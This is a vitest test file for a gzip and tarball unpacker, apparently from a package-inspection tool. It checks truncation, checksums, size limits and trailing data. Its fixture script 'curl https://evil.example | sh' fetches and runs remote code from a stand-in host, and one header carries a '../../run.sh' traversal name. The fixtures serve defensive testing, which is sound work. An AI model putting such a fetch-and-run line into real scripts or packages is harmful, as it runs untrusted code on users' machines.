import { deflateRawSync, gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";

import { gunzip, MAX_MEMBERS } from "../../src/unpack/gzip.ts";
import { buildTar } from "./build-tar.ts";
import { unpacked } from "./unpacked.ts";

const RUN_TEXT = "#!/bin/sh\ncurl https://evil.example | sh\n";
const TAR = buildTar([{ name: "package/run.sh", content: RUN_TEXT }]);
const ROOM = 1_000_000;

const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString();

describe("gunzip", () => {
  test("gives the content, and says that nothing is wrong", async () => {
    expect(await gunzip(gzipSync("hello"), ROOM)).toMatchObject({
      bytes: Buffer.from("hello"),
      outcome: "complete",
      checksumsMatch: true,
      trailing: Buffer.alloc(0),
    });
  });

  test("joins members, as gunzip does", async () => {
    const { bytes, outcome } = await gunzip(Buffer.concat([gzipSync("one "), gzipSync(""), gzipSync("two")]), ROOM);
    expect([text(bytes), outcome]).toEqual(["one two", "complete"]);
  });

  test("steps over extra field, name, comment and header checksum", async () => {
    const plain = gzipSync("hello");
    const header = Buffer.from(plain.subarray(0, 10));
    header[3] = 2 | 4 | 8 | 16;
    const extra = Buffer.from([3, 0, 1, 2, 3]);
    const names = Buffer.from("../../run.sh\0a comment\0");
    const { bytes } = await gunzip(Buffer.concat([header, extra, names, Buffer.alloc(2), plain.subarray(10)]), ROOM);
    expect(text(bytes)).toBe("hello");
  });

  test.each<[string, Uint8Array]>([
    ["in the header", gzipSync(RUN_TEXT).subarray(0, 8)],
    ["in a name without end", Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 0]), Buffer.from("name")])],
    ["in the data", gzipSync(RUN_TEXT).subarray(0, 30)],
    ["in the trailer", gzipSync(RUN_TEXT).subarray(0, -3)],
  ])("cut off %s", async (_, bytes) => {
    expect((await gunzip(bytes, ROOM)).outcome).toBe("truncated");
  });

  test("a wrong checksum", async () => {
    const bytes = Buffer.from(gzipSync("hello"));
    bytes.writeUInt32LE(1, bytes.length - 8);
    expect(await gunzip(bytes, ROOM)).toMatchObject({ checksumsMatch: false, outcome: "complete" });
  });

  test("stops at the room it has: at it, and one byte past it", async () => {
    const bytes = gzipSync("x".repeat(1000));
    expect((await gunzip(bytes, 1000)).outcome).toBe("complete");
    const cut = await gunzip(bytes, 999);
    expect([cut.outcome, text(cut.bytes)]).toEqual(["too-large", "x".repeat(999)]);
    const members = await gunzip(Buffer.concat([bytes, gzipSync("y")]), 1000);
    expect([members.outcome, text(members.bytes)]).toEqual(["too-large", "x".repeat(1000)]);
  });

  test("a declared size of 4 GB is not believed", async () => {
    const bytes = Buffer.from(gzipSync("hello"));
    bytes.writeUInt32LE(0xffffffff, bytes.length - 4);
    const many = Buffer.concat([...Array.from({ length: 2_000 }, () => gzipSync("a")), bytes]);
    expect((await gunzip(many, 500_000_000)).bytes).toHaveLength(2_005);
  });

  test("takes no more members than it may", async () => {
    const one = gzipSync("a");
    expect((await gunzip(Buffer.concat(Array.from({ length: MAX_MEMBERS }, () => one)), ROOM)).trailing).toHaveLength(
      0,
    );
    const more = await gunzip(Buffer.concat(Array.from({ length: MAX_MEMBERS + 1 }, () => one)), ROOM);
    expect(more.trailing).toEqual(one);
  });

  test("what came before an error is kept, to the byte", async () => {
    const stored = Buffer.alloc(5);
    stored.writeUInt16LE(RUN_TEXT.length, 1);
    stored.writeUInt16LE(RUN_TEXT.length ^ 0xffff, 3);
    const header = gzipSync("").subarray(0, 10);
    const { bytes, outcome } = await gunzip(
      Buffer.concat([header, stored, Buffer.from(RUN_TEXT), Buffer.alloc(9, 0xff)]),
      ROOM,
    );
    expect([text(bytes), outcome]).toEqual([RUN_TEXT, "corrupt"]);
  });
});

describe("a gzipped package", () => {
  test("that is a tar", async () => {
    expect(await unpacked(gzipSync(TAR), "tgz", { strip: 1 })).toMatchObject({
      files: { "run.sh": RUN_TEXT },
      anomalies: [],
      gaps: [],
    });
  });

  test("that is a tar cut into members", async () => {
    const bytes = Buffer.concat([gzipSync(TAR.subarray(0, 700)), gzipSync(TAR.subarray(700))]);
    expect((await unpacked(bytes, "tgz")).files).toEqual({ "package/run.sh": RUN_TEXT });
  });

  test("that is one file", async () => {
    expect((await unpacked(gzipSync(RUN_TEXT), "tgz")).files).toEqual({ content: RUN_TEXT });
  });

  test("that begins with a broken block, which npm skips", async () => {
    const { files, anomalies } = await unpacked(gzipSync(Buffer.concat([Buffer.alloc(512, "x"), TAR])), "tgz", {
      strip: 1,
    });
    expect(files["run.sh"]).toBe(RUN_TEXT);
    expect(anomalies).toContain("trailing-data");
  });

  test("with bytes behind it; zeros are padding", async () => {
    const { files, anomalies } = await unpacked(Buffer.concat([gzipSync(TAR), Buffer.from(RUN_TEXT)]), "tgz");
    expect(Object.values(files)).toEqual([RUN_TEXT, RUN_TEXT]);
    expect(anomalies).toEqual(["trailing-data"]);
    expect((await unpacked(Buffer.concat([gzipSync(TAR), Buffer.alloc(600)]), "tgz")).anomalies).toEqual([]);
  });

  test("cut off: what came before is read", async () => {
    const tar = buildTar([
      { name: "a", content: "1" },
      { name: "b", content: "2".repeat(3000) },
    ]);
    const { files, gaps } = await unpacked(
      Buffer.concat([gzipSync(tar).subarray(0, 10), open(tar.subarray(0, 2000))]),
      "tgz",
    );
    expect(files["a"]).toBe("1");
    expect(gaps).toContain("truncated");
  });

  test("that only says so", async () => {
    const { files, gaps } = await unpacked(Buffer.from([0x1f, 0x8b, 7, 1, 2, 3]), "tgz");
    expect(Object.keys(files)).toHaveLength(1);
    expect(gaps).toEqual(["unparsable"]);
  });

  test("with a wrong checksum", async () => {
    const bytes = Buffer.from(gzipSync(TAR));
    bytes.writeUInt32LE(1, bytes.length - 8);
    expect((await unpacked(bytes, "tgz")).anomalies).toEqual(["checksum-mismatch"]);
  });
});

/** A deflate stream without its last block. */
function open(content: Uint8Array): Buffer {
  return deflateRawSync(content, { finishFlush: 2 }); // Z_SYNC_FLUSH
}
